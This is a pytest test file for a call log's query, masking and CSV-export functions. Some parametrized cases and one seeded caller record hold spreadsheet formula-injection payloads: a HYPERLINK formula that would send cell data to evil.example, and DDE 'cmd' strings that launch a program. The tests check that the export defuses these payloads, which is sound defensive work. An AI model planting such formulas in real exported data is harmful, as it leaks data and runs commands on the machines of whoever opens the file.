"""The call log's read side over real rows: filters, keyset pages without gaps or repeats,
masked numbers, what a handler may see, CSV rows."""

from __future__ import annotations

import datetime as dt

import pytest

from inquiries.calllog import (
    CallLogFilter,
    csv_rows,
    decode_cursor,
    encode_cursor,
    inquiry_detail,
    list_interactions,
    spreadsheet_safe,
)
from inquiries.models import Caller, CallEvent, Inquiry, Interaction
from routing.models import Handler, Offer, QueueEntry
from tests.support import handles

T0 = dt.datetime(2026, 11, 1, 12, 0, tzinfo=dt.UTC)


@pytest.fixture
def svc(app):
    return handles(app)


def seed(svc, n: int = 30) -> dict[str, int]:
    """``n`` calls from 3 callers; every third at the same second as the one before it."""
    protector = svc.protector
    ids: dict[str, int] = {}
    with svc.session_factory() as session:
        handlers = []
        for name, phone_hash in (("Anna", "h-a"), ("Boris", "h-b")):
            handler = Handler(
                display_name=name,
                languages=["ru"],
                skills=["other"],
                phone_hash=phone_hash,
                phone_ciphertext=b"x",
                phone_key_id="k",
            )
            session.add(handler)  # fmt: skip
            handlers.append(handler)
        callers = []
        for number in ("+79161234567", "+380501231234", "client:softphone"):
            number_hash = protector.lookup_hash(number)
            sealed = protector.seal_text(number, associated=number_hash.encode())
            caller = Caller(number_hash=number_hash, number_ciphertext=sealed.ciphertext,
                            number_key_id=sealed.key_id)  # fmt: skip
            session.add(caller)
            callers.append(caller)
        session.flush()
        inquiries = [
            Inquiry(caller_id=c.id, kind=kind, language=lang, status=status, outcome=outcome)
            for c, kind, lang, status, outcome in zip(
                callers, ("surrender", "family", "other"), ("ru", "uk", "en"),
                ("open", "resolved", "new"), (None, "advised", None), strict=True,
            )
        ]  # fmt: skip
        session.add_all(inquiries)
        session.flush()
        for i in range(n):
            started = T0 + dt.timedelta(seconds=i - (1 if i % 3 == 2 else 0))
            inquiry = inquiries[i % 3]
            call = Interaction(
                inquiry_id=inquiry.id,
                provider_sid=f"CA{i:032x}",
                started_at=started,
                status="completed",
                duration_s=60 + i,
            )
            session.add(call)  # fmt: skip
            session.flush()
            session.add(CallEvent(interaction_id=call.id, event="IVR_ENTER", time=started))
            if i % 3 == 0:  # the surrender caller's calls were answered by Anna
                session.add(QueueEntry(interaction_id=call.id, state="done", language="ru",
                                       kind="surrender", enqueued_at=started,
                                       connected_at=started + dt.timedelta(seconds=12),
                                       handler_id=handlers[0].id))  # fmt: skip
            if i == 1:  # Boris accepted an offer for the relative's case once
                session.add(Offer(interaction_id=call.id, handler_id=handlers[1].id,
                                  state="accepted", offered_at=started))  # fmt: skip
        session.commit()
        ids.update(anna=handlers[0].id, boris=handlers[1].id, surrender=inquiries[0].id,
                   family=inquiries[1].id, other=inquiries[2].id)  # fmt: skip
    return ids


def all_pages(svc, flt, **kwargs) -> list:
    rows, cursor = [], None
    with svc.engine.connect() as conn:
        while True:
            page = list_interactions(conn, svc.protector, flt, cursor=cursor, limit=7, **kwargs)
            rows += page.rows
            if page.next_cursor is None:
                return rows
            cursor = page.next_cursor


def test_pages_are_newest_first_without_gaps_or_repeats(svc):
    seed(svc)
    rows = all_pages(svc, CallLogFilter())
    assert len(rows) == 30 and len({r.interaction_id for r in rows}) == 30
    keys = [(r.started_at, r.interaction_id) for r in rows]
    assert keys == sorted(keys, reverse=True)


def test_filters_narrow_the_log(svc):
    ids = seed(svc)
    assert {r.kind for r in all_pages(svc, CallLogFilter(kind="family"))} == {"family"}
    assert len(all_pages(svc, CallLogFilter(language="uk"))) == 10
    assert len(all_pages(svc, CallLogFilter(outcome="advised"))) == 10
    assert len(all_pages(svc, CallLogFilter(status="new"))) == 10
    assert len(all_pages(svc, CallLogFilter(handler_id=ids["anna"]))) == 10
    window = CallLogFilter(since=T0 + dt.timedelta(seconds=10), until=T0 + dt.timedelta(seconds=20))
    got = all_pages(svc, window)
    assert got and all(window.since <= r.started_at < window.until for r in got)
    assert all_pages(svc, CallLogFilter(channel="whatsapp")) == []


def test_numbers_are_masked_unless_asked_for(svc):
    seed(svc)
    rows = all_pages(svc, CallLogFilter())
    assert {r.number for r in rows} == {"+7 ••• ••• 45 67", "+380 ••• ••• 12 34", "browser"}
    full = all_pages(svc, CallLogFilter(kind="surrender"), full_numbers=True)
    assert {r.number for r in full} == {"+79161234567"}
    answered = [r for r in rows if r.handler_id is not None]
    assert answered and all(r.waited_s == 12 for r in answered)


def test_a_handler_sees_only_the_cases_they_took_part_in(svc):
    ids = seed(svc)
    anna = all_pages(svc, CallLogFilter(), visible_to_handler=ids["anna"])
    assert {r.inquiry_id for r in anna} == {ids["surrender"]}
    boris = all_pages(svc, CallLogFilter(), visible_to_handler=ids["boris"])
    assert {r.inquiry_id for r in boris} == {ids["family"]}  # all of that case's calls
    assert len(boris) == 10


def test_csv_has_a_header_and_every_row(svc):
    seed(svc)
    with svc.engine.connect() as conn:
        rows = list(csv_rows(conn, svc.protector, CallLogFilter(), batch=4))
    assert rows[0][0] == "interaction" and rows[0][-1] == "number"
    assert len(rows) == 31
    assert "+79161234567" not in {cell for row in rows for cell in row}


@pytest.mark.parametrize(
    ("cell", "exported"),
    [
        ('=HYPERLINK("https://evil.example/?"&A1)', '\'=HYPERLINK("https://evil.example/?"&A1)'),
        ("+79161234567", "'+79161234567"), ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"), ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"), ("\n=1", "'\n=1"), ("\0=1", "'\0=1"),
        ("", ""), ("browser", "browser"), ("withheld", "withheld"), ("60", "60"),
        ("2026-11-01T12:00:00+00:00", "2026-11-01T12:00:00+00:00"), ("a=1", "a=1"),
        ("'=1", "'=1"),
    ],
)  # fmt: skip
def test_a_cell_that_starts_like_a_formula_is_exported_as_text(cell, exported):
    assert spreadsheet_safe(cell) == exported


def test_a_caller_address_that_is_a_formula_leaves_the_csv_as_text(svc):
    """The carrier passes a SIP caller's ``From`` as the caller chose it: it is kept
    as given (not E.164), and the full-number export must not hand it to a spreadsheet as a
    formula."""
    seed(svc, n=3)
    planted = '=HYPERLINK("https://evil.example/?"&A2,"Open")'
    with svc.session_factory() as session:
        number_hash = svc.protector.lookup_hash(planted)
        sealed = svc.protector.seal_text(planted, associated=number_hash.encode())
        caller = Caller(number_hash=number_hash, number_ciphertext=sealed.ciphertext,
                        number_key_id=sealed.key_id)  # fmt: skip
        session.add(caller)
        session.flush()
        inquiry = Inquiry(caller_id=caller.id, kind="other", language="en", status="new")
        session.add(inquiry)
        session.flush()
        session.add(Interaction(inquiry_id=inquiry.id, provider_sid="CA" + "f" * 32,
                                started_at=T0, status="completed", duration_s=1))  # fmt: skip
        session.commit()
    with svc.engine.connect() as conn:
        rows = list(csv_rows(conn, svc.protector, CallLogFilter(), full_numbers=True))
    assert ["'" + planted] in [row[-1:] for row in rows]
    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@")]


def test_the_inquiry_timeline_holds_every_call_and_event(svc):
    ids = seed(svc)
    with svc.engine.connect() as conn:
        detail = inquiry_detail(conn, svc.protector, ids["family"])
        assert detail is not None and detail.number == "+380 ••• ••• 12 34"
        assert len(detail.interactions) == 10 and len(detail.timeline) == 10
        assert [t.time for t in detail.timeline] == sorted(t.time for t in detail.timeline)
        assert inquiry_detail(conn, svc.protector, 999_999) is None


@pytest.mark.parametrize("bad", ["", "x" * 300, "!!!", "bm90IGEgY3Vyc29y", None])
def test_a_bad_cursor_starts_at_the_first_page(bad):
    assert decode_cursor(bad) is None


def test_a_cursor_round_trips():
    assert decode_cursor(encode_cursor(T0, 42)) == (T0, 42)
